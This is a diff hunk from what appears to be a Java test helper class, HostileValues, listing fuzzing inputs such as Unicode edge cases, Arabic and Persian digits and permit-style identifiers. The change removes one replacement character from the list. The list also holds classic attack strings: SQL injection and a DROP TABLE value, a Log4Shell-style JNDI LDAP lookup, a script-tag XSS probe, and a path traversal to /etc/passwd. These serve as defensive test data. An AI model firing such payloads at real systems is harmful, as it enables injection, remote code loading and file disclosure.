@@ -25,7 +25,7 @@ final class HostileValues {
             "\u200C", "\u200C\u200C\u200C\u200C", "\u200D", " \u200C ",
             "\u0640", "\u0640".repeat(60), "\u0640\u200C\u0640",
             NFC_GROWTH_200, "\u0958".repeat(101), "\u0958".repeat(51), "a" + "\u0301".repeat(300),
-            "😀".repeat(150), "𝐀".repeat(201), "\uFFFF\uFFFE", "\uE000", "\uFFFD",
+            "😀".repeat(150), "𝐀".repeat(201), "\uFFFF\uFFFE", "\uE000",
             "يك", "كفش\u064Aك", "۱۲۳۴۵", "١٢٣٤٥", "IR-۳۰", "ir-30", " IR-30 ",
             "' OR '1'='1", "'; DROP TABLE permit; --", "${jndi:ldap://x/a}", "<script>alert(1)</script>",
             "../../../../etc/passwd", "%00", "%", "\\", "\"", "null", "NaN", "{}", "[]");
